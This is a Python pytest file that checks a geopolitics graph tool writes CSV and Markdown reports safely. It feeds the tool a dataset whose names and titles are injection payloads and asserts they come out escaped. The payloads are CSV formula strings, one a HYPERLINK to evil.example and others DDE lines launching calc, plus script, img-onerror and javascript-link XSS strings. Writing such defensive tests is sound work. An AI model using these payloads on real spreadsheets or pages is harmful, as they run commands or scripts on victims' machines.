"""Nothing geograph writes poisons the tool that reads it next (issue #18, item 7).

A spreadsheet runs a CSV cell that starts with ``=``, ``+``, ``-`` or ``@``; GitHub and Jupyter
render Markdown, and the HTML in it. A dataset whose names, evidence and titles are such text goes
through every CSV and every Markdown report here: each formula comes out as text (a leading
``'``), numbers stay numbers, no tag, link or emphasis survives, and a table keeps its rows.
"""

from __future__ import annotations

import csv
import html.parser
import io
import re
import shutil
import subprocess
from pathlib import Path
from xml.etree import ElementTree

import pandas as pd
import pytest
from click.testing import CliRunner

import graph
from cli import main
from graph.csv_text import FORMULA_START, csv_cell, csv_table
from graph.errors import OptionError
from graph.export import to_csv
from graph.ingest import AGGREGATE_COLUMNS, aggregates_csv
from graph.report import format_frame, format_timeline
from graph.report.text import markdown_text
from graph.yaml_text import scalar

#: The two payloads of the issue, and the other ways a cell starts a formula.
HYPERLINK = '=HYPERLINK("http://evil.example/?x","Click")'
CALC = "-2+3+cmd|' /C calc'!A0"
FORMULAS = [HYPERLINK, CALC, "+1+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1", "'=quoted already"]
#: What Markdown or HTML would read as markup.
SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(1)>"
LINK = "[link](javascript:alert(1))"
BROKEN = "two\nlines | *bold*"
NAMES = {"AAA": HYPERLINK, "BBB": CALC, "CCC": SCRIPT, "DDD": IMG, "EEE": BROKEN, "FFF": LINK}
EVIDENCE = "- a list? <b>bold</b> &amp; $x$ ~y~ `code` _em_ # end #"
SOURCE_TITLE = "=cmd|' /C calc'!A0 <script>x</script>"
EVENT_TITLE = IMG + " [x](javascript:alert(1))"


def _q(value: object) -> str:
    return scalar(value)


def _hostile_yaml() -> str:
    """A dataset in which every name, evidence sentence and title is a payload."""
    lines = ['title: "Poison"', "", "sources:", "  src:", f"    title: {_q(SOURCE_TITLE)}", "    publisher: tests",
             '    date: "2025-01"', "", "actors:"]
    for aid, name in NAMES.items():
        lines += [f"  - id: {aid}", f"    name: {_q(name)}", "    kind: state"]
    lines += ["  - id: PPP", f"    name: {_q('+1 arena _x_ `code` ' + SCRIPT)}", "    kind: project", "", "relations:"]
    ties = [("AAA", "BBB", "alignment", 2000), ("BBB", "CCC", "tension", 2000), ("AAA", "CCC", "tension", 2021),
            ("CCC", "DDD", "alignment", 2000), ("DDD", "EEE", "tension", 2021), ("EEE", "FFF", "alignment", 2000),
            ("AAA", "FFF", "tension", 2000), ("BBB", "EEE", "alignment", 2000)]
    for a, b, kind, since in ties:
        lines += [f"  - id: {a.lower()}-{b.lower()}", f"    between: [{a}, {b}]", f"    kind: {kind}",
                  "    domain: security", "    weight: 0.75", f"    since: {since}",
                  f"    evidence: {_q(EVIDENCE)}", "    sources: [src]"]
    for a, kind in (("AAA", "alignment"), ("BBB", "tension"), ("CCC", "alignment")):
        lines += [f"  - id: {a.lower()}-ppp", f"    from: {a}", "    to: PPP", f"    kind: {kind}",
                  "    domain: transport", "    weight: 0.5", "    since: 2000", f"    evidence: {_q(EVIDENCE)}",
                  "    sources: [src]"]
    lines += ["", "events:", "  - id: ev1", "    date: 2024-05-01", "    actors: [AAA, BBB]",
              f"    title: {_q(EVENT_TITLE)}", "    kind: cooperative", "    sources: [src]"]
    return "\n".join(lines) + "\n"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("poison")
    path = folder / "poison.yaml"
    path.write_text(_hostile_yaml(), encoding="utf-8")
    graph.load(path)  # the payloads are valid data: the loader keeps them as text
    (folder / "sc.yaml").write_text(
        "scenario:\n"
        f"  title: {_q(SCRIPT + ' | *x* #')}\n"
        f"  rationale: {_q(LINK + chr(10) + '# not a heading' + chr(10) + '1. not a list')}\n"
        "  sources: [src]\n"
        "remove:\n"
        "  relations: [aaa-fff]\n"
        "change:\n"
        "  relations:\n"
        "    - id: aaa-bbb\n"
        "      weight: 0.25\n"
        f"      tags: [{_q('*x* <b>')}]\n", encoding="utf-8")
    return path


def _run(*args: str) -> str:
    result = CliRunner().invoke(main, list(args))
    assert result.exit_code == 0, result.output
    return result.stdout


# --------------------------------------------------------------------------------------------
# CSV


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def _assert_no_formula(rows: list[list[str]], numeric: set[str]) -> None:
    """No text cell starts a formula; the cells of the numeric columns are numbers, written as such."""
    header = rows[0]
    for row in rows[1:]:
        for column, cell in zip(header, row):
            if column in numeric and cell:
                float(cell)  # a number, unprefixed: it reads back as one
            elif cell.lstrip(" ").startswith(FORMULA_START):
                assert cell.startswith("'"), (column, cell)


def test_centrality_csv_writes_every_formula_name_as_text_and_numbers_as_numbers(hostile):
    rows = _cells(_run("centrality", str(hostile), "--at", "2025-03-01", "--format", "csv"))
    header = rows[0]
    names = {r[0]: r[header.index("name")] for r in rows[1:]}
    assert names["AAA"] == "'" + HYPERLINK and names["BBB"] == "'" + CALC
    numeric = set(header) - {"id", "name", "kind"}
    _assert_no_formula(rows, numeric)
    net = {r[0]: r[header.index("net_strength")] for r in rows[1:]}
    assert net["CCC"].startswith("-") and float(net["CCC"]) < 0  # a negative number stays a number
    frame = pd.read_csv(io.StringIO(_run("centrality", str(hostile), "--at", "2025-03-01", "--format", "csv")))
    assert frame["net_strength"].dtype == float and frame["name"].tolist()[0].startswith("'")


def test_formulas_option_prefixes_numbers_too_or_writes_cells_raw(hostile):
    def cells(mode: str) -> dict[str, list[str]]:
        rows = _cells(_run("centrality", str(hostile), "--at", "2025-03-01", "--format", "csv", "--formulas", mode))
        return {r[0]: r for r in rows[1:]} | {"header": rows[0]}

    strict, raw = cells("all"), cells("off")
    net = strict["header"].index("net_strength")
    assert strict["CCC"][net].startswith("'-")            # all: a negative number is prefixed as well
    assert raw["AAA"][raw["header"].index("name")] == HYPERLINK  # off: the cell as it is, for programs
    assert float(raw["CCC"][net]) < 0


def test_export_csv_writes_every_formula_cell_as_text(hostile, tmp_path):
    _run("export", str(hostile), "--format", "csv", "-o", str(tmp_path / "tables"), "--with-metrics")
    actors = _cells((tmp_path / "tables" / "actors.csv").read_text("utf-8"))
    relations = _cells((tmp_path / "tables" / "relations.csv").read_text("utf-8"))
    sources = _cells((tmp_path / "tables" / "sources.csv").read_text("utf-8"))
    assert {r[1] for r in actors[1:]} >= {"'" + HYPERLINK, "'" + CALC}
    assert {r[relations[0].index("evidence")] for r in relations[1:]} == {"'" + EVIDENCE}
    assert sources[1][1] == "'" + SOURCE_TITLE
    _assert_no_formula(actors, set(actors[0][6:]))
    _assert_no_formula(relations, {"weight"})
    _assert_no_formula(sources, set())


def test_timeline_csv_keeps_negative_values_as_numbers(hostile):
    rows = _cells(_run("timeline", str(hostile), "--from", "2020", "--to", "2024", "--metric", "net_strength",
                       "--actor", "CCC", "--format", "csv"))
    assert rows[0] == ["period", "actor", "metric", "value"]
    values = [float(r[3]) for r in rows[1:] if r[1] == "CCC"]
    assert min(values) == -0.75  # its tension ties outweigh its alignment, written as the number
    _assert_no_formula(rows, {"value"})


def test_format_timeline_neutralises_text_cells_given_by_a_library_caller():
    frame = pd.DataFrame([{"period": "2024", "actor": CALC, "metric": "net_strength", "value": -0.25}])
    assert _cells(format_timeline(frame, "csv"))[1] == ["2024", "'" + CALC, "net_strength", "-0.25"]


def test_aggregates_csv_neutralises_text_and_keeps_numbers():
    row = [HYPERLINK, "AZE", "2020-11", 3, -12.5, -4.1666, 1, 0, 1, 1, 9, float("nan")]
    rows = _cells(aggregates_csv(pd.DataFrame([row], columns=list(AGGREGATE_COLUMNS))))
    assert rows[1] == ["'" + HYPERLINK, "AZE", "2020-11", "3", "-12.5", "-4.1666", "1", "0", "1", "1", "9", ""]


@pytest.mark.parametrize("text", FORMULAS + ["\uff1d1+1", "  =1+1", "\n=1+1"])
def test_csv_cell_prefixes_every_formula_start_and_the_prefix_comes_off_exactly(text):
    cell = csv_cell(text)
    assert cell == "'" + text
    assert _cells(csv_table(["x"], [[text]]))[1] == [cell]  # quoting keeps it one cell, line breaks and all


@pytest.mark.parametrize("text", ["Iran", "2020-11", "0.5", "a=b", "e-mail", " spaced", ""])
def test_csv_cell_leaves_text_that_starts_no_formula(text):
    assert csv_cell(text) == text


def test_csv_numbers_are_exempt_unless_every_cell_is_asked_for():
    frame = pd.DataFrame({"name": [CALC], "net": [-0.25]}, index=pd.Index(["AAA"], name="id"))
    assert format_frame(frame, "csv") == f"id,name,net\nAAA,'{CALC},-0.25\n"
    assert format_frame(frame, "csv", formulas="all") == f"id,name,net\nAAA,'{CALC},'-0.25\n"
    assert format_frame(frame, "csv", formulas="off") == f"id,name,net\nAAA,{CALC},-0.25\n"
    assert [csv_cell(v) for v in (-1, 1e-07, float("-inf"), True, None)] == ["-1", "1e-07", "-Infinity", "true", ""]


def test_unknown_formulas_mode_names_the_choices():
    with pytest.raises(OptionError, match="^unknown formulas mode 'raw'; choose one of: text, all, off$"):
        to_csv(graph.load(Path(__file__).parent / "fixtures" / "valid" / "minimal.yaml"), formulas="raw")


# --------------------------------------------------------------------------------------------
# Markdown

#: Tags the reports themselves produce when rendered: anything else came from the data.
OWN_TAGS = {"h1", "h2", "p", "ul", "li", "table", "thead", "tbody", "tr", "th", "td", "code"}


def _assert_inert(text: str) -> None:
    """No tag, link, emphasis or code span from the data; every table row is one line of the table."""
    assert not re.search(r"<[A-Za-z/!?]", text), "a tag passes into the Markdown"
    assert not re.search(r"(?<!\\)\[[^\]\n]*(?<!\\)\]\(", text), "a link passes into the Markdown"
    assert not re.search(r"(?<!\\)[*~$]", text), "emphasis, strikethrough or math passes into the Markdown"
    lines = text.splitlines()
    for i, line in enumerate(lines):
        if line.startswith("|---") or line.startswith("|--"):
            cells = len(re.findall(r"(?<!\\)\|", lines[i - 1]))
            j = i + 1
            while j < len(lines) and lines[j].strip():
                assert lines[j].startswith("| ") and len(re.findall(r"(?<!\\)\|", lines[j])) == cells, lines[j]
                j += 1
    for heading in (line for line in lines if line.startswith("#")):
        assert not heading.rstrip().endswith(" #"), heading  # a closing # would be eaten


def _markdown_reports(hostile: Path) -> dict[str, str]:
    ds = str(hostile)
    scenario = str(hostile.parent / "sc.yaml")
    return {
        "centrality": _run("centrality", ds, "--at", "2025-03-01", "--format", "markdown"),
        "explain": _run("explain", ds, "AAA", "BBB", "--at", "2025-03-01", "--format", "markdown"),
        "diff": _run("diff", ds, "--from", "2019", "--to", "2025-03", "--format", "markdown"),
        "arenas": _run("arenas", ds, "--at", "2025-03-01", "--format", "markdown"),
        "scenario": _run("scenario", ds, scenario, "--at", "2025-03-01", "--format", "markdown"),
        "robustness": _run("robustness", ds, "--at", "2025-03-01", "--samples", "5", "--format", "markdown"),
    }


@pytest.fixture(scope="module")
def reports(hostile) -> dict[str, str]:
    return _markdown_reports(hostile)


@pytest.mark.parametrize("command", ["centrality", "explain", "diff", "arenas", "scenario", "robustness"])
def test_markdown_report_lets_no_markup_through(reports, command):
    text = reports[command]
    _assert_inert(text)
    # the payloads are there, as text: the report still names every actor
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text or "&lt;img src=x onerror=alert(1)&gt;" in text
    assert r"\[link\](javascript:alert(1))" in text or command in ("explain", "arenas")


def test_markdown_centrality_table_keeps_one_row_per_actor(reports):
    rows = [line for line in reports["centrality"].splitlines() if line.startswith("| ")][1:]
    assert len(rows) == len(NAMES)  # the arena PPP is not an agent: left out without --with-arenas
    assert [row.split(" | ")[1] for row in rows if row.startswith("| EEE ")] == [r"two lines \| \*bold\*"]


def test_markdown_balance_lets_no_markup_through(hostile):
    _assert_inert(_run("balance", str(hostile), "--at", "2025-03-01", "--format", "markdown"))


def test_markdown_text_renders_as_the_text_it_was_given():
    # what a CommonMark renderer makes of each escape: the character itself (checked against
    # markdown-it-py and Python-Markdown by hand, see FOR_LEAD.md; neither is a dependency)
    assert markdown_text(SCRIPT) == "&lt;script&gt;alert(1)&lt;/script&gt;"
    assert markdown_text(IMG) == "&lt;img src=x onerror=alert(1)&gt;"
    assert markdown_text(LINK) == r"\[link\](javascript:alert(1))"
    assert markdown_text(BROKEN) == r"two lines \| \*bold\*"
    assert markdown_text("a\r\nb\u2028c") == "a b c"
    assert markdown_text("# title #") == r"\# title \#"
    assert markdown_text("---") == r"\---"
    assert markdown_text("1) first") == r"1\) first"
    assert markdown_text("&#60; &lt; AT&T") == r"&amp;\#60; &amp;lt; AT&T"
    assert markdown_text("back\\slash `tick`") == r"back\\slash \`tick\`"


@pytest.mark.parametrize("name", ["Azerbaijan", "North–South corridor", "Bosnia & Herzegovina", "net_strength",
                                  "Côte d'Ivoire", "2020-11", "-0.25", "U.S.-Iran (talks)"])
def test_markdown_text_leaves_ordinary_names_as_written(name):
    assert markdown_text(name) == name


def test_markdown_renders_without_markup_in_a_commonmark_renderer(reports):
    markdown_it = pytest.importorskip("markdown_it")  # not a dependency: runs where it is installed
    renderer = markdown_it.MarkdownIt("commonmark").enable("table").enable("strikethrough")

    class Tags(html.parser.HTMLParser):
        def __init__(self) -> None:
            super().__init__()
            self.tags: set[str] = set()

        def handle_starttag(self, tag, attrs):
            self.tags.add(tag)

    for command, text in reports.items():
        page = renderer.render(text)
        parser = Tags()
        parser.feed(page)
        assert parser.tags <= OWN_TAGS, (command, parser.tags - OWN_TAGS)
        assert "<script>" not in page and "onerror=alert(1)>" not in page.replace("&gt;", "")



def _shown(cell: ElementTree.Element) -> str:
    """What a spreadsheet cell shows: its paragraphs, one per line."""
    return "\n".join("".join(p.itertext()) for p in cell.findall("{urn:oasis:names:tc:opendocument:xmlns:text:1.0}p"))


@pytest.mark.skipif(shutil.which("soffice") is None, reason="needs LibreOffice (apt-get install libreoffice-calc-nogui)")
def test_centrality_and_timeline_csv_open_in_libreoffice_as_text_and_numbers(hostile, tmp_path):
    (tmp_path / "centrality.csv").write_text(_run("centrality", str(hostile), "--at", "2025-03-01", "--format",
                                                  "csv"), encoding="utf-8")
    (tmp_path / "timeline.csv").write_text(_run("timeline", str(hostile), "--from", "2020", "--to", "2022",
                                                "--metric", "net_strength", "--format", "csv"), encoding="utf-8")
    # 44 comma, 34 double quote, 76 UTF-8, from line 1: LibreOffice's CSV dialog, formulas evaluated as usual
    subprocess.run(["soffice", f"-env:UserInstallation=file://{tmp_path}/profile", "--headless", "--convert-to",
                    "fods", "--infilter=CSV:44,34,76,1", "--outdir", str(tmp_path),
                    str(tmp_path / "centrality.csv"), str(tmp_path / "timeline.csv")],
                   check=True, capture_output=True, timeout=300)
    table, office = ("urn:oasis:names:tc:opendocument:xmlns:table:1.0",
                     "urn:oasis:names:tc:opendocument:xmlns:office:1.0")
    shown = {}
    for name, column in (("centrality", "net_strength"), ("timeline", "value")):
        # a run of equal cells is one element with a repeat count: expanded, so columns line up
        rows = [[c for c in row.iter(f"{{{table}}}table-cell")
                 for _ in range(int(c.get(f"{{{table}}}number-columns-repeated", "1")))]
                for row in ElementTree.parse(tmp_path / f"{name}.fods").iter(f"{{{table}}}table-row")]
        cells = [c for row in rows for c in row]
        assert not [c for c in cells if c.get(f"{{{table}}}formula")], name  # no cell became a formula
        header = [_shown(c) for c in rows[0]]
        values = [row[header.index(column)] for row in rows[1:] if len(row) > header.index(column)]
        assert {c.get(f"{{{office}}}value-type") for c in values if _shown(c)} == {"float"}, name
        shown[name] = {_shown(c) for c in cells}
        if name == "timeline":
            assert min(float(c.get(f"{{{office}}}value")) for c in values if _shown(c)) == -0.75  # a number
    assert {"'" + HYPERLINK, "'" + CALC} <= shown["centrality"]  # the formulas, shown as the text they are
